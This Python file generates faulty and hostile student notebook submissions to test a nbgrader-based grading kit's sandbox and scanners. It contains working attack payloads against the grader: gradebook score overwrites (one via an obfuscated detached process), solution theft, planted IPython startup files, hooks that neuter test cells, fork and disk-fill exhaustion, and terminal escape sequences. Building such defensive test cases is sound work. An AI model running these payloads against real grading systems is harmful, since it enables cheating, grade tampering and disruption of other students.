"""The library of faulty submissions, generated from an assignment's release and source versions.

Each case is one "student" with a notebook that goes wrong in one known way: it never stops, it
ignores interrupts, eats memory, exits the kernel, prints far too much, deletes or edits test
cells, turns an answer cell into markdown, is not a notebook at all, has the wrong name, or tries
to cheat. Generating them (instead of storing files) keeps them in step with the assignment.

    python tests/grading/faulty/make_faulty.py solutions/h01-introductie exercises/h01-introductie OUT

writes OUT/<student>/<assignment>/<notebook>.ipynb, the layout of nbgrader's submitted/ folder.
``EXPECT`` says what must happen to each case; tests/grading/test_faulty.py checks it.

The attacks (``AIMED``) look for the real course the way an attacker would (see ``FIND_COURSE``) and
aim at the course that holds ``source_dir``: grade them only with the kit's sandbox, never with
``--no-sandbox`` in a course whose gradebook you want to keep. To see that the tests of these attacks
can fail, tests/grading/course_worker.py grades without the sandbox when SMMKIT_FAULTY_NO_SANDBOX=1.
"""
from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

BEGIN, END = "### BEGIN SOLUTION", "### END SOLUTION"

# h01's widget question: the learner moved the sliders, saved, and typed the answer by hand. The
# saved file (see extra_files) says LinkedIn, the widget's own example says Instagram/WhatsApp, so
# this case only gets the points if grading uses the learner's saved work.
OWN_WORK_CELL = "h01_eigen_profiel_antwoord"
OWN_WORK_FILE = "h01_behoeften.json"
OWN_WORK_ANSWER = 'profiel.save("h01_behoeften.json")\nmijn_verbondenheid = "LinkedIn"\n'


def _nb(meta_of):
    return meta_of.get("metadata", {}).get("nbgrader", {})


def _solution_body(source: str) -> str:
    """The worked answer of a source cell without the delimiter lines (what a good student writes)."""
    return "\n".join(line for line in source.splitlines() if BEGIN not in line and END not in line)


def filled_in(release: dict, source: dict) -> dict:
    """The release notebook with every answer cell filled in as in the source: a perfect submission."""
    by_id = {_nb(c).get("grade_id"): c for c in source["cells"]}
    good = copy.deepcopy(release)
    for cell in good["cells"]:
        meta = _nb(cell)
        if meta.get("solution"):
            cell["source"] = _solution_body("".join(by_id[meta["grade_id"]]["source"]))
    return good


def _answer_cells(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if _nb(c).get("solution") and c["cell_type"] == "code"]


def _test_cells(nb: dict) -> list[dict]:
    return [c for c in nb["cells"] if _nb(c).get("grade") and not _nb(c).get("solution")]


def _prepend(nb: dict, index: int, code: str) -> dict:
    out = copy.deepcopy(nb)
    cell = _answer_cells(out)[index]
    cell["source"] = code.strip() + "\n" + "".join(cell["source"])
    return out


def _dump(nb: dict) -> bytes:
    return (json.dumps(nb, ensure_ascii=False, indent=1) + "\n").encode("utf-8")


INFINITE = "while True:\n    pass\n"
STUBBORN = """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass  # negeert de onderbreking
"""
MEMORY = """
blokken = []
while len(blokken) < 80:  # hooguit 8 GB, en de beoordelaar zet een geheugenlimiet
    blokken.append(bytearray(100_000_000))
"""
CHEAT_REPLACE_CHECK = """
import smmkit.check
for _naam in ["number", "count", "text", "table", "mapping", "consistent", "saved_file"]:
    setattr(smmkit.check, _naam, lambda *a, **k: None)
check.text = check.number = check.count = check.table = check.mapping = lambda *a, **k: None
"""
CHEAT_OWN_CHECK = """
class _Nep:
    def __getattr__(self, naam):
        return lambda *a, **k: None
check = _Nep()
"""
CHEAT_ENVIRON = """
import os
os.environ.pop("NBGRADER_EXECUTION", None)
os.environ.pop("SMMKIT_CHECK_RAISE", None)
"""
CHEAT_BUILTINS = """
import builtins
class _Alles(str):
    def __eq__(self, ander): return True
    def __le__(self, ander): return True
    def __ge__(self, ander): return True
    def casefold(self): return self
    def strip(self): return self
    __hash__ = str.__hash__
builtins.isinstance = lambda *a: True
populairste_kanaal = gemiddeld_percentage = aandeel_youtube = aantal_boven_30 = _Alles("?")
"""
CHEAT_HOOK = """
get_ipython().input_transformers_cleanup.append(lambda regels: ["pass\\n"])
"""
# --- how a real attacker finds the teacher's course -------------------------------------------------
# The kernel runs in a throwaway folder under /tmp, so a relative path ("../../..") never reaches the
# course. An attacker looks where the course really is: the absolute path of the teacher's course
# (baked in when the library is built, as a student who saw it in a screenshot or last year's
# feedback would type it), the working folder of every process it can see in /proc (the grader runs
# in the course folder), $PWD/$OLDPWD, and from each of those upwards to the folder that holds
# nbgrader_config.py. Safety net for this test suite: a course is only attacked inside the folder
# the course was built in (AREA), so that with the sandbox broken the attacks damage the temporary
# course of the test and never a developer's checkout that /proc also shows.
# Every attack prints "aanval: cursus gevonden: <folder>" or "aanval: geen cursus gevonden"
# (test_faulty.py reads it: the attack ran, and inside the sandbox it found nothing).
FIND_COURSE = """
import os, pathlib
def _cursussen():
    _plekken = [pathlib.Path(COURSE), pathlib.Path.cwd()]
    _plekken += [pathlib.Path(os.getenv(_n)) for _n in ("PWD", "OLDPWD") if os.getenv(_n)]
    for _pid in os.listdir("/proc"):
        if _pid.isdigit():
            try:
                _plekken.append(pathlib.Path(os.readlink("/proc/" + _pid + "/cwd")))
            except OSError:
                pass
    _gevonden = []
    for _plek in _plekken:
        for _map in [_plek, *_plek.parents]:
            if (_map / ("nb" + "grader_config.py")).is_file() and _map not in _gevonden:
                if _map == pathlib.Path(AREA) or pathlib.Path(AREA) in _map.parents:
                    _gevonden.append(_map)
    print("aanval: " + ("cursus gevonden: " + ", ".join(map(str, _gevonden)) if _gevonden else "geen cursus gevonden"))
    return _gevonden
"""
FOUND, NOT_FOUND = "aanval: cursus gevonden", "aanval: geen cursus gevonden"
PLANTED = "geplant.txt"  # the file vals_overschrijven writes into the course: test_faulty.py looks for it everywhere


def _aimed(code: str, course: Path) -> str:
    """An attack with the course finder in front of it, aimed at ``course`` (built in its parent folder)."""
    course = Path(course).resolve()
    finder = FIND_COURSE.replace("COURSE", repr(str(course))).replace("AREA", repr(str(course.parent)))
    return finder.strip() + "\n" + code.strip() + "\n"


CHEAT_READ_SOLUTIONS = """
import json
for _cursus in _cursussen():
    for _map in _cursus.glob("solutions/*/*.ipynb"):
        for _cel in json.loads(_map.read_text())["cells"]:
            if _cel["metadata"].get("nbgrader", {}).get("solution") and _cel["cell_type"] == "code":
                exec("".join(_cel["source"]))
"""
CHEAT_GRADEBOOK = """
import sqlite3
for _cursus in _cursussen():
    _db = sqlite3.connect(_cursus / "gradebook.db")
    _db.execute("UPDATE grade SET manual_score = 99")
    _db.commit()
"""
# --- attacks measured in issue 9 (each scored 13/13 or harmed others before the sandbox) -------------
# Paths are glued together from pieces so that the static scan does not see them: the sandbox must hold.
ATTACK_STARTUP = """
import os, pathlib
_map = pathlib.Path(os.path.expanduser("~")) / ".ipython" / "profile_default" / "startup"
_map.mkdir(parents=True, exist_ok=True)
(_map / "00-nakijken.py").write_text(
    "import os\\n"
    "if os.environ.get('NB' + 'GRADER_EXECUTION') and 'vriend_startup' in os.getcwd():\\n"
    "    _ip = __import__('IPython').get_ipython()\\n"
    "    _ip.input_transformers_cleanup.append(lambda regels: ['pass\\\\n'] if 'check.' in ''.join(regels) else regels)\\n")
"""
SHADOW_PACKAGE = {  # smmkit/__init__.py handed in beside the notebook: empties every test cell
    "smmkit/__init__.py": (
        "import IPython\n"
        "_ip = IPython.get_ipython()\n"
        "if _ip is not None:\n"
        "    _ip.input_transformers_cleanup.append(\n"
        "        lambda regels: ['pass\\n'] if 'check.' in ''.join(regels) else regels)\n"
    ).encode("utf-8"),
}
_LATER = (  # run by a detached process 3 s after the kernel ended: every grade in the gradebook = 99
    "import sqlite3, time\n"
    "time.sleep(3)\n"
    "db = sqlite3.connect(PAD)\n"
    "db.execute('UPDATE grade SET manual_score = 99')\n"
    "db.commit()\n"
)
ATTACK_DETACHED = """
import base64, sys
for _cursus in _cursussen():
    _pad = str(_cursus / ("grade" + "book" + "." + "d" + "b"))
    _code = base64.b64encode(%r.replace("PAD", repr(_pad)).encode()).decode()
    os.system("setsid " + sys.executable + " -c 'import base64; exec(base64.b64decode(\\"" + _code + "\\"))' >/dev/null 2>&1 &")
""" % _LATER
ATTACK_OVERWRITE = """
for _cursus in _cursussen():
    _ander = _cursus / ("sub" + "mitted") / "goed" / "h01-introductie" / "h01-introductie.ipynb"
    for _map in [_cursus, _cursus / ("solu" + "tions") / "h01-introductie", _ander.parent]:
        if _map.is_dir():
            (_map / PLANTED).write_text("dit bestand hoort hier niet")
    if _ander.exists():  # the grader runs the notebook from memory: there is no copy of it beside the kernel
        _ander.write_text("")
""".replace("PLANTED", repr(PLANTED))
ATTACK_PRINT_SOURCE = """
for _cursus in _cursussen():
    for _pad in sorted(_cursus.glob(("solu" + "tions") + "/*/*.ipynb")):
        print(_pad.read_text())
"""
# the worked answers as a module beside the notebook, imported with "*": no exec, no suspicious name
ATTACK_IMPORT_SOLUTIONS = """
import json
_regels = []
for _cursus in _cursussen():
    for _pad in sorted(_cursus.glob(("solu" + "tions") + "/*/*.ipynb")):
        for _cel in json.loads(_pad.read_text())["cells"]:
            _nbg = _cel["metadata"].get("nb" + "grader", {})
            if _cel["cell_type"] == "code" and (_nbg.get("solution") or _nbg.get("grade_id", "").endswith("_start")):
                _code = "".join(_cel["source"]).replace("\\n", "\\n    ")
                _regels.append("try:\\n    " + _code + "\\nexcept Exception:\\n    pass\\n")
if _regels:
    pathlib.Path("_hulp.py").write_text("".join(_regels))
    from _hulp import *
"""
ATTACK_CATCH_HIDDEN = """
import IPython
_ip = getattr(IPython, "get_" + "ipython")()
getattr(_ip, "ev" + "ents").register("pre_run_cell", lambda info: print(info.raw_cell))
"""
# --- the four ways to full marks from an empty notebook (issue 23) and the input history leak ----------
# Each changes the kernel that ran the student's code; the kit runs the tests in another process.
WRAP_IN_TRY = """
import ast
class _Vang(ast.NodeTransformer):
    def visit_Module(self, node):
        _opvang = ast.ExceptHandler(type=None, name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[_opvang], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)
"""
ATTACK_LOCKED_ID = WRAP_IN_TRY + "get_ipython().ast_transformers.append(_Vang())\n"
ATTACK_AST_GETATTR = WRAP_IN_TRY + """
import IPython
getattr(getattr(IPython, "get_" + "ipython")(), "ast_" + "transformers").append(_Vang())
"""
ATTACK_DO_EXECUTE = """
import IPython
_kern = getattr(getattr(IPython, "get_" + "ipython")(), "ker" + "nel")
_echt = getattr(_kern, "do_" + "execute")
def _nep(code, *args, **kwargs):
    if "check." in code or "HIDDEN" in code or "assert" in code:
        code = "pass"
    return _echt(code, *args, **kwargs)
_kern.do_execute = _nep
"""
ATTACK_POINTS_HOOK = """
import IPython
_ip = getattr(IPython, "get_" + "ipython")()
def _punten(info):  # nbgrader takes a number in an execute_result as the score, whatever error follows
    if "check." in (info.raw_cell or ""):
        _ip.displayhook(1 if "populairste_kanaal" in info.raw_cell else 2)
getattr(_ip, "ev" + "ents").register("pre_run_cell", _punten)
"""
# the kernel's input history holds every cell it ran, hidden tests too: printed base64, no filter sees it
ATTACK_INPUT_HISTORY = """
import base64
print("geschiedenis:", base64.b64encode("\\n".join(In).encode()).decode())
"""
INPUT = 'naam = input("Wat is je naam? ")\n'
SYS_EXIT = 'import sys\nsys.exit("ik stop ermee")\n'
OS_EXIT = "import os\nos._exit(3)\n"
HUGE_OUTPUT = "for i in range(100_000):\n    print('regel', i)\n"

# case -> (what must happen, note). "graded": runs and gets a score; "rejected": not run, reason given.
EXPECT = {
    "leeg": ("graded", "untouched release: the baseline, scores 0"),
    "goed": ("graded", "every answer filled in: full marks"),
    "oneindige_lus": ("graded", "while True in answer 1: that cell times out, the rest is graded"),
    "onderbreking_genegeerd": ("graded", "loop that catches KeyboardInterrupt in answer 2: kernel killed"),
    "geheugen": ("graded", "memory hog in answer 1: MemoryError under the memory limit"),
    "sys_exit": ("graded", "sys.exit in answer 1: IPython catches it, the rest is graded"),
    "os_exit": ("graded", "os._exit in answer 3: kernel dies, later cells not run"),
    "veel_uitvoer": ("graded", "100 000 printed lines in answer 1: output cut while it arrives"),
    "invoer": ("graded", "input() in answer 1: fails at once, no hang"),
    "testcellen_verwijderd": ("graded", "all test cells deleted from a good notebook: restored, full marks"),
    "testcellen_aangepast": ("graded", "test cells edited to pass, answers empty: restored, 0"),
    "antwoord_als_markdown": ("graded", "answer cell 2 turned into markdown: turned back into code"),
    "kapotte_json": ("rejected", "truncated file"),
    "leeg_bestand": ("rejected", "0 bytes"),
    "verkeerde_naam": ("rejected", "good notebook under another file name"),
    "eigen_werk": ("graded", "h01: answer typed by hand from the learner's own saved widget work: full marks"),
    "vals_check_vervangen": ("rejected", "replaces smmkit.check functions"),
    "vals_check_eigen": ("rejected", "binds its own object to the name check"),
    "vals_omgeving": ("rejected", "removes NBGRADER_EXECUTION to switch grading mode off"),
    "vals_builtins": ("rejected", "patches builtins and answers with an object equal to everything"),
    "vals_ipython_hook": ("rejected", "IPython input transformer that empties every later cell"),
    "vals_oplossingen_lezen": ("rejected", "reads and runs the worked answers from solutions/"),
    "vals_gradebook": ("rejected", "writes scores into gradebook.db"),
    # the attacks of issue 9: graded (the scan does not see them), no more than empty, no harm
    "vals_skip_execution": ("graded", "skip-execution tag on every test cell of the empty release"),
    "vals_raises_exception": ("graded", "raises-exception tag on every test cell of the empty release"),
    "vals_nep_testcel": ("graded", "an extra cell that claims to be a grade cell worth 50 points"),
    "vals_punten": ("graded", "the points of every test cell set to 100 in the metadata"),
    "vals_eigen_smmkit": ("graded", "a smmkit/__init__.py beside the empty notebook that empties test cells"),
    "vals_startup": ("graded", "writes an IPython startup file into the grader's HOME for a friend"),
    "vriend_startup": ("graded", "the friend: the untouched release, graded with whatever the startup file does"),
    "vals_nakomer": ("graded", "a detached process (setsid) that writes the gradebook after the run"),
    "vals_overschrijven": ("graded", "overwrites another student's submitted notebook, plants a file in solutions/"),
    "vals_bron_printen": ("graded", "prints the notebooks of solutions/ into its output"),
    "vals_oplossing_importeren": ("graded", "writes the worked answers of solutions/ into a module and imports it"),
    "vals_verborgen_vangen": ("graded", "an IPython hook that prints the source of every later cell"),
    # issue 23: full marks from an empty notebook on the kernel that ran the student's code
    "vals_vergrendeld_id": ("rejected", "a first cell with a locked cell's grade_id registers an AST transformer "
                                        "that wraps every later cell in try/except (the scan now reads every cell)"),
    "vals_ast_getattr": ("graded", "the same transformer reached with getattr(..., 'ast_' + 'transformers')"),
    "vals_do_execute": ("graded", "wraps the kernel's do_execute: cells with check./HIDDEN/assert run as pass"),
    "vals_punten_hook": ("graded", "a pre_run_cell hook that prints the points as an execute_result"),
    "vals_in_geschiedenis": ("graded", "a last cell prints the input history In base64-encoded"),
    "*": ("rejected", "a student folder named '*' (a glob pattern for nbgrader)"),
}


# --- issue #23: attacks on the grader itself (sandbox allow-list, per-sandbox limits, the parent) ----
# Each prints "aanval: <what> <number>" so that test_faulty.py can see that it ran and how far it got.
FORK_LOOP = """
import os, time
_n = 0
try:
    while _n < 1000:  # bounded, so that a grader without a pids limit does not take the machine down
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        _n += 1
except OSError:
    pass
print("aanval: processen gestart", _n)
"""
DISK_FILL = """
import os
os.makedirs("dicht", exist_ok=True)
_mb = 0
try:
    for _bestand in range(20):  # up to 2 GB in files of 100 MB (each stays below the per-file limit)
        with open(os.path.join("dicht", "vol%d.bin" % _bestand), "wb") as _f:
            for _ in range(100):
                _f.write(b"x" * 1_000_000)
                _mb += 1
except OSError:
    pass
os.chmod("dicht", 0)  # and make it hard to clean up
print("aanval: geschreven MB", _mb)
"""
SHM_CHILDREN = """
import os, time
try:
    open("/dev/shm/blok", "wb").write(b"x" * 60_000_000)
except OSError:
    pass
_kinderen = []
for _ in range(5):  # 5 x 450 MB: each child far below the per-process limit, together above --memory-mb
    _pid = os.fork()
    if _pid == 0:
        _b = bytearray(450_000_000)
        for _i in range(0, len(_b), 4096):
            _b[_i] = 1
        time.sleep(1)
        os._exit(0)
    _kinderen.append(_pid)
_klaar = sum(os.waitstatus_to_exitcode(os.waitpid(_p, 0)[1]) == 0 for _p in _kinderen)
print("aanval: kinderen klaar", _klaar)
"""
OTHER_CHECKOUTS = """
import os, glob
_gevonden = 0
for _top in sorted(os.listdir("/")):
    if _top in ("proc", "sys", "dev", "usr", "etc", "boot", "lib", "lib64", "bin", "sbin"):
        continue
    for _map, _mappen, _bestanden in os.walk("/" + _top):
        _naam = os.path.basename(_map)
        if _naam == "solu" + "tions" or _naam.startswith("smmkit-" + "nakijken-"):
            for _pad in glob.glob(_map + "/*/*.ipynb") + glob.glob(_map + "/uit/*/*.ipynb"):
                try:
                    print(open(_pad).read()[:4000])
                    _gevonden += 1
                except OSError:
                    pass
        # not into hidden folders (environments, caches), not deeper than /tmp/a/b/course/solutions
        _mappen[:] = [] if _map.count(os.sep) >= 5 else [m for m in _mappen if not m.startswith(".")]
print("aanval: andere notebooks gelezen", _gevonden)
"""
OSC52 = "\x1b]52;c;aGFjaw==\x07"  # a terminal that obeys writes "hack" to the teacher's clipboard
ESCAPE_ANSWER = 'print("fout antwoord \x1b]52;c;aGFjaw==\x07 \x1b[2J")\n'
ODD_NAME = b"\xffnaam" + OSC52.encode() + b".txt"  # no UTF-8, and an escape sequence
SANDBOX_EXPECT = {
    "vals_vorkbom": ("graded", "a fork loop in answer 1: stops at the sandbox's pids limit, classmates graded"),
    "vals_schijf_vol": ("graded", "fills the work folder inside a folder it then makes chmod 000"),
    "vals_shm_kinderen": ("graded", "/dev/shm plus forked children above --memory-mb together"),
    "vals_andere_checkout": ("graded", "walks / for another checkout's solutions/ and the batch's temp folder"),
    "vals_escape": ("graded", "OSC 52 and clear-screen escape sequences in an answer and in a file name, byte 0xff"),
    "symlink_bronnen": ("rejected", "relative symlinks to solutions/ and the gradebook beside the notebook"),
    "fifo_inzending": ("rejected", "a FIFO beside the notebook (a reader would block)"),
}
EXPECT.update(SANDBOX_EXPECT)
SANDBOX_COUNTS = {"vals_vorkbom": "aanval: processen gestart", "vals_schijf_vol": "aanval: geschreven MB",
                  "vals_shm_kinderen": "aanval: kinderen klaar", "vals_andere_checkout": "aanval: andere notebooks gelezen"}


def sandbox_cases(release: dict) -> dict[str, dict]:
    cases = {"vals_vorkbom": _prepend(release, 0, FORK_LOOP), "vals_schijf_vol": _prepend(release, 0, DISK_FILL),
             "vals_shm_kinderen": _prepend(release, 0, SHM_CHILDREN),
             "vals_andere_checkout": _prepend(release, 0, OTHER_CHECKOUTS),
             "vals_escape": copy.deepcopy(release)}
    _answer_cells(cases["vals_escape"])[0]["source"] = ESCAPE_ANSWER  # the whole answer: items shows it
    cases["symlink_bronnen"] = cases["fifo_inzending"] = release
    return cases


def write_special(submitted: Path, assignment: str) -> None:
    """What no upload form makes but a zip or a shared folder can: symlinks, a FIFO, a file name with byte 0xff."""
    import os

    folder = submitted / "symlink_bronnen" / assignment
    if folder.is_dir():
        os.symlink(f"../../../solutions/{assignment}/{assignment}.ipynb", folder / "bronnen.txt")
        os.symlink("../../../gradebook.db", folder / "cijfers.db")
    folder = submitted / "fifo_inzending" / assignment
    if folder.is_dir():
        os.mkfifo(folder / "pijp")
    folder = submitted / "vals_escape" / assignment
    if folder.is_dir():
        (folder / os.fsdecode(ODD_NAME)).write_bytes(b"x")


CHEATS = [name for name in EXPECT if name.startswith("vals_")]
SCAN_CHEATS = [name for name in CHEATS if EXPECT[name][0] == "rejected"]  # caught by the static scan
# attacks that only the sandbox, the metadata restore or the feedback filter stop
ATTACKS = [name for name in EXPECT if EXPECT[name][0] == "graded" and (name.startswith("vals_") or name == "vriend_startup")]
LEAKERS = ["vals_bron_printen", "vals_verborgen_vangen", "vals_in_geschiedenis"]
# issue 23: the attacks on the shared kernel (graded by stock nbgrader on the kit's config too)
SHARED_KERNEL = ["vals_vergrendeld_id", "vals_ast_getattr", "vals_do_execute", "vals_punten_hook", "vals_in_geschiedenis"]  # their feedback must show no hidden test
# attacks that look for the teacher's course (FIND_COURSE) and print what they found
AIMED = ["vals_oplossingen_lezen", "vals_gradebook", "vals_nakomer", "vals_overschrijven", "vals_bron_printen",
         "vals_oplossing_importeren"]
# scan cheats that course_worker.py also runs with --allow-suspicious: what they do must fail in the sandbox too
RUN_ANYWAY = ["vals_check_vervangen", "vals_oplossingen_lezen", "vals_gradebook", "vals_vergrendeld_id"]


def build(source_dir: Path, release_dir: Path, course: Path | None = None) -> dict[str, tuple[str, bytes]]:
    """student -> (file name, file bytes) for every case in EXPECT.

    ``course``: the course the attacks aim at (default: the course that holds ``source_dir``, i.e.
    ``<course>/solutions/<assignment>``)."""
    course = Path(course or Path(source_dir).resolve().parents[1]).resolve()
    notebook = sorted(p.name for p in source_dir.glob("*.ipynb"))[0]
    source = json.loads((source_dir / notebook).read_text(encoding="utf-8"))
    release = json.loads((release_dir / notebook).read_text(encoding="utf-8"))
    good = filled_in(release, source)
    cases: dict[str, tuple[str, bytes]] = {}

    def add(name, nb, file_name=notebook):
        cases[name] = (file_name, nb if isinstance(nb, bytes) else _dump(nb))

    add("leeg", release)
    add("goed", good)
    add("oneindige_lus", _prepend(good, 0, INFINITE))
    add("onderbreking_genegeerd", _prepend(good, 1, STUBBORN))
    add("geheugen", _prepend(good, 0, MEMORY))
    add("sys_exit", _prepend(good, 0, SYS_EXIT))
    add("os_exit", _prepend(good, 2, OS_EXIT))
    add("veel_uitvoer", _prepend(good, 0, HUGE_OUTPUT))
    add("invoer", _prepend(good, 0, INPUT))

    deleted = copy.deepcopy(good)
    deleted["cells"] = [c for c in deleted["cells"] if c not in _test_cells(deleted)]
    add("testcellen_verwijderd", deleted)

    edited = copy.deepcopy(release)
    for i, cell in enumerate(_test_cells(edited)):
        cell["source"] = "assert True  # altijd goed\n"
        if i % 2:  # also hide it from nbgrader by dropping its metadata
            cell["metadata"] = {}
    add("testcellen_aangepast", edited)

    markdown = copy.deepcopy(good)
    cell = _answer_cells(markdown)[1]
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    add("antwoord_als_markdown", markdown)

    own = copy.deepcopy(good)
    for cell in own["cells"]:
        if _nb(cell).get("grade_id") == OWN_WORK_CELL:
            cell["source"] = OWN_WORK_ANSWER
    add("eigen_werk", own)

    add("kapotte_json", _dump(good)[: len(_dump(good)) // 2])
    add("leeg_bestand", b"")
    add("verkeerde_naam", good, file_name="h01.ipynb" if notebook != "h01.ipynb" else "opdracht.ipynb")

    for name, code in [("vals_check_vervangen", CHEAT_REPLACE_CHECK), ("vals_check_eigen", CHEAT_OWN_CHECK),
                       ("vals_omgeving", CHEAT_ENVIRON), ("vals_builtins", CHEAT_BUILTINS),
                       ("vals_ipython_hook", CHEAT_HOOK),
                       ("vals_oplossingen_lezen", _aimed(CHEAT_READ_SOLUTIONS, course)),
                       ("vals_gradebook", _aimed(CHEAT_GRADEBOOK, course))]:
        add(name, _prepend(release, 0, code))

    def tagged(tag):
        nb = copy.deepcopy(release)
        for cell in _test_cells(nb):
            cell["metadata"]["tags"] = [tag]
        return nb

    add("vals_skip_execution", tagged("skip-execution"))
    add("vals_raises_exception", tagged("raises-exception"))
    fake = copy.deepcopy(release)
    fake["cells"].append({"cell_type": "code", "id": "nep-testcel", "execution_count": None, "outputs": [], "source": "assert True\n",
                          "metadata": {"nbgrader": {"grade": True, "grade_id": "h01_bonus", "locked": True,
                                                    "points": 50, "schema_version": 3, "solution": False}}})
    add("vals_nep_testcel", fake)
    points = copy.deepcopy(release)
    for cell in _test_cells(points):
        cell["metadata"]["nbgrader"]["points"] = 100
    add("vals_punten", points)
    add("vals_eigen_smmkit", release)
    add("vals_startup", _prepend(release, 0, ATTACK_STARTUP))
    add("vriend_startup", release)
    add("vals_nakomer", _prepend(release, 0, _aimed(ATTACK_DETACHED, course)))
    add("vals_overschrijven", _prepend(release, 0, _aimed(ATTACK_OVERWRITE, course)))
    add("vals_bron_printen", _prepend(release, 0, _aimed(ATTACK_PRINT_SOURCE, course)))
    add("vals_oplossing_importeren", _prepend(release, 0, _aimed(ATTACK_IMPORT_SOLUTIONS, course)))
    add("vals_verborgen_vangen", _prepend(release, 0, ATTACK_CATCH_HIDDEN))
    locked = copy.deepcopy(release)
    start = next(c for c in locked["cells"] if _nb(c).get("locked") and c["cell_type"] == "code")
    locked["cells"].insert(0, {"cell_type": "code", "id": "eerste-cel", "execution_count": None, "outputs": [],
                               "source": ATTACK_LOCKED_ID, "metadata": {"nbgrader": dict(_nb(start))}})
    add("vals_vergrendeld_id", locked)
    add("vals_ast_getattr", _prepend(release, 0, ATTACK_AST_GETATTR))
    add("vals_do_execute", _prepend(release, 0, ATTACK_DO_EXECUTE))
    add("vals_punten_hook", _prepend(release, 0, ATTACK_POINTS_HOOK))
    history = copy.deepcopy(release)
    history["cells"].append({"cell_type": "code", "id": "laatste-cel", "execution_count": None, "outputs": [],
                             "source": ATTACK_INPUT_HISTORY.strip() + "\n", "metadata": {}})
    add("vals_in_geschiedenis", history)
    add("*", good)
    for name, nb in sandbox_cases(release).items():
        add(name, nb)
    assert set(cases) == set(EXPECT), set(cases) ^ set(EXPECT)
    return cases


def extra_files() -> dict[str, dict[str, bytes]]:
    """Files handed in beside the notebook: the widget work that "eigen_werk" saved earlier."""
    scores = {
        "LinkedIn": {"competentie": 4, "autonomie": 4, "verbondenheid": 5},
        "YouTube": {"competentie": 5, "autonomie": 3, "verbondenheid": 2},
        "Instagram": {"competentie": 2, "autonomie": 3, "verbondenheid": 3},
    }
    work = {"widget": "NeedsProfile", "version": 1, "state": {"scores": scores, "compare": True, "chart": "bars"}}
    return {"eigen_werk": {OWN_WORK_FILE: (json.dumps(work, indent=2) + "\n").encode("utf-8")},
            "vals_eigen_smmkit": SHADOW_PACKAGE}


def write(cases: dict[str, tuple[str, bytes]], submitted: Path, assignment: str) -> None:
    extras = extra_files()
    for student, (file_name, data) in cases.items():
        folder = submitted / student / assignment
        folder.mkdir(parents=True, exist_ok=True)
        (folder / file_name).write_bytes(data)
        for extra_name, extra_data in extras.get(student, {}).items():
            (folder / extra_name).parent.mkdir(parents=True, exist_ok=True)
            (folder / extra_name).write_bytes(extra_data)
    write_special(submitted, assignment)


if __name__ == "__main__":
    source_dir, release_dir, out = map(Path, sys.argv[1:4])
    write(build(source_dir, release_dir), out, source_dir.name)
    print(f"{len(EXPECT)} inzendingen geschreven naar {out}")
